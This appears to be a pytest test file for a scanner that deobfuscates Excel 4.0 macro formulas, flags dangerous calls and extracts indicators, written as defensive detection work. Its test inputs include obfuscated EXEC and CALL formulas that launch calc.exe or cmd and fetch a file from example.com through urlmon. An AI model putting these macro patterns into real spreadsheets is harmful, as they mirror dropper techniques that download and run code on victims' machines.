import time

import pytest

from gateway.scan.budget import Budget, Limits
from gateway.scan.documents.xlm_code import Formula, normal, read


def code(*texts: str, row: int = 0, column: int = 0):
    formulas = [Formula("M", number, 1, text) for number, text in enumerate(texts, 1)]
    return read(formulas, "M" if row else "", row, column, budget=Budget(Limits()))


def test_constants_are_joined():
    found = code('EXEC("c"&CHAR(97)&"lc"&CHAR(45+1)&"exe")', 'CALL("urlm"&"on","x","JJ","http://exa"&"mple.com/a.bin")')
    assert found.dangerous == ("EXEC", "CALL")
    assert found.indicators == ("http://example.com/a.bin", "calc.exe", "urlmon")


def test_a_function_put_together_from_pieces_is_seen():
    assert code('FORMULA("=EX"&"EC("&CHAR(34)&"calc",B1)').dangerous == ("EXEC",)


def test_doubled_quotes_are_one():
    assert code('EXEC("cmd /c ""a b.exe""")').indicators == ('cmd /c "a b.exe"',)


def test_the_excerpt_begins_at_the_entry():
    found = code("A()", "B()", "C()", row=2, column=1)
    assert found.excerpt.split("\n") == ["A2: =B()", "A3: =C()", "A1: =A()"]


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("GOTO(A1)", "goto( $BC$17 )"),
        ("GOTO(Macro1!A1)", "GOTO('an other'!A9)"),
        ("GOTO(R1C1)", "GOTO(R[-2]C[17])"),
        ("SET.VALUE(A1,5)", "SET.VALUE(B2,5)"),
    ],
)
def test_code_in_other_cells_is_the_same_code(one, other):
    assert normal(one) == normal(other)
    assert code(one).fingerprint == code(other).fingerprint


def test_other_code_has_another_name():
    assert code("HALT()").fingerprint != code("RETURN()").fingerprint
    assert code().fingerprint == ""


@pytest.mark.parametrize("unit", ['"', '"a"&', "CHAR(1)&", "a.", "'", "A1", "((", '""', "\\\\a\\", "r[", "http://"])
def test_a_megabyte_of_almost_takes_no_time(unit):
    started = time.process_time()
    code(unit * (1_000_000 // len(unit)))
    assert time.process_time() - started < 5


def test_cell_addresses():
    assert [Formula("", 1, c, "").cell for c in (1, 26, 27, 256, 16384)] == ["A1", "Z1", "AA1", "IV1", "XFD1"]
